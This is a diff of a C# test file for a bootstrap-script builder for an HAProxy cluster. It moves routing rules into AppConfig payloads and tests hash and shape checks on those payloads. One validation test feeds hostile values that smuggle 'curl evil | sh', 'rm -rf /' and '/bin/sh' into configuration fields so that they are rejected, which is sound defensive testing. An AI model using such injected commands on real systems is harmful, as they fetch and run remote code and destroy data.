@@ -10,8 +10,14 @@ public class BootstrapScriptTests
         StackName = "HaproxyCluster-dev",
         SignalResource = "NodesAsg1234ABCD",
         Region = "eu-west-1",
-        BundleUri = "s3://cdk-hnb659fds-assets-123456789012-eu-west-1/0123abcd.tar",
-        BundleSha256 = new string('a', 64),
+        Rules = new RulesSource { Application = "haproxy-cluster-dev", Environment = "dev", Profile = "rules" },
+        Agent = new NodeAgentSettings
+        {
+            Uri = "s3://cdk-hnb659fds-assets-123456789012-eu-west-1/0123abcd",
+            Sha256 = new string('a', 64),
+            MetricsNamespace = "HaproxyCluster/dev",
+            ServerStateFile = "/var/lib/haproxy/server-state",
+        },
         LogGroupName = "/haproxy-cluster/dev",
         HealthPort = 8081,
         HealthPath = "/haproxy-health",
@@ -28,18 +34,19 @@ public class BootstrapScriptTests
     }
 
     [Fact]
-    public void Script_starts_with_bash_and_strict_mode_and_carries_the_bundle_hash()
+    public void Script_starts_with_bash_and_strict_mode_and_names_where_the_rules_come_from()
     {
         var script = BootstrapScript.Build(Settings);
 
         Assert.StartsWith("#!/bin/bash\n", script, StringComparison.Ordinal);
         Assert.Contains("\nset -euo pipefail\n", script, StringComparison.Ordinal);
-        Assert.Contains($"readonly BUNDLE_SHA256='{Settings.BundleSha256}'", script, StringComparison.Ordinal);
+        Assert.Contains("readonly RULES_URL='http://localhost:2772/applications/haproxy-cluster-dev/environments/dev/configurations/rules'\n", script, StringComparison.Ordinal);
+        Assert.Contains("readonly APPCONFIG_POLL_SECONDS='15'\n", script, StringComparison.Ordinal);
         Assert.Contains("trap on_exit EXIT", script, StringComparison.Ordinal);
     }
 
     [Fact]
-    public void Script_stays_under_the_user_data_limit_with_ten_thousand_hosts_and_its_hash_changes()
+    public void Rules_are_not_in_the_script_and_ten_thousand_hosts_fit_one_appconfig_version()
     {
         // GIVEN a routing table of 10 hosts and one of 10,000
         static BundleArchive Archive(int hosts) => BundleArchive.Create(ConfigRenderer.Render(new HaproxySpec
@@ -51,16 +58,38 @@ public class BootstrapScriptTests
         var small = Archive(10);
         var large = Archive(10_000);
 
-        // WHEN each becomes user data
-        var smallScript = BootstrapScript.Build(Settings with { BundleSha256 = small.Sha256 });
-        var largeScript = BootstrapScript.Build(Settings with { BundleSha256 = large.Sha256 });
+        // WHEN each becomes an AppConfig version
+        var smallPayload = RulesPayload.Encode(small);
+        var largePayload = RulesPayload.Encode(large);
 
-        // THEN the table travels in the bundle: the scripts are the same size, well under 16 KiB,
-        // and differ only in the hash, which is what rolls the instances.
+        // THEN the user data names neither (one script for both, well under 16 KiB), the 10k table
+        // compresses to a small share of AppConfig's limit, and each payload decodes to its archive
+        Assert.InRange(Encoding.UTF8.GetByteCount(BootstrapScript.Build(Settings)), 1, BootstrapScript.MaxBytes);
+        Assert.DoesNotContain(small.Sha256, BootstrapScript.Build(Settings), StringComparison.Ordinal);
         Assert.True(large.Bytes.Length > 200_000, $"the 10k archive is {large.Bytes.Length} bytes");
-        Assert.Equal(Encoding.UTF8.GetByteCount(smallScript), Encoding.UTF8.GetByteCount(largeScript));
-        Assert.InRange(Encoding.UTF8.GetByteCount(largeScript), 1, BootstrapScript.MaxBytes);
-        Assert.NotEqual(smallScript, largeScript);
+        Assert.InRange(Encoding.UTF8.GetByteCount(largePayload), 1, RulesPayload.MaxBytes / 10);
+        Assert.Equal(large.Bytes, RulesPayload.Decode(largePayload).Archive);
+        Assert.Equal(small.Sha256, RulesPayload.Decode(smallPayload).Sha256);
+        Assert.Equal(largePayload, RulesPayload.Encode(large));
+    }
+
+    [Fact]
+    public void A_payload_whose_bundle_does_not_match_its_hash_or_shape_is_refused_with_the_reason()
+    {
+        var archive = BundleArchive.Create(ConfigRenderer.Render(new HaproxySpec
+        {
+            Pools = [new Pool { Name = "web", Servers = [new Server("10.0.0.1", 80)] }],
+            DefaultPool = "web",
+        }));
+        var payload = RulesPayload.Encode(archive);
+
+        var tampered = Assert.Throws<InvalidDataException>(() => RulesPayload.Decode(payload.Replace(archive.Sha256, new string('0', 64), StringComparison.Ordinal)));
+        var truncated = Assert.Throws<InvalidDataException>(() => RulesPayload.Decode(payload[..(payload.Length / 2)] + "\"}"));
+        var shapeless = Assert.Throws<InvalidDataException>(() => RulesPayload.Decode("{\"sha256\":\"x\"}"));
+
+        Assert.Contains($"has sha256 {archive.Sha256}, but the payload names {new string('0', 64)}", tampered.Message, StringComparison.Ordinal);
+        Assert.Contains("not base64 of gzip", truncated.Message, StringComparison.Ordinal);
+        Assert.Contains("lacks sha256 or bundle", shapeless.Message, StringComparison.Ordinal);
     }
 
     [Fact]
@@ -70,14 +99,15 @@ public class BootstrapScriptTests
         {
             StackName = "dev'; curl evil | sh; '",
             Region = "eu-west-1\nrm -rf /",
-            BundleSha256 = "not-a-hash",
+            Rules = Settings.Rules with { Profile = "rules'\n/bin/sh" },
+            Agent = Settings.Agent with { Sha256 = "not-a-hash" },
             HealthPort = 0,
             SyslogPort = 70000,
         };
 
         var error = Assert.Throws<ConfigValidationException>(() => BootstrapScript.Build(hostile));
 
-        Assert.Equal(["StackName", "Region", "BundleSha256", "HealthPort", "SyslogPort"], error.Errors.Select(e => e.Property));
+        Assert.Equal(["StackName", "Region", "Rules.Profile", "Agent.Sha256", "HealthPort", "SyslogPort"], error.Errors.Select(e => e.Property));
     }
 
     [Fact]
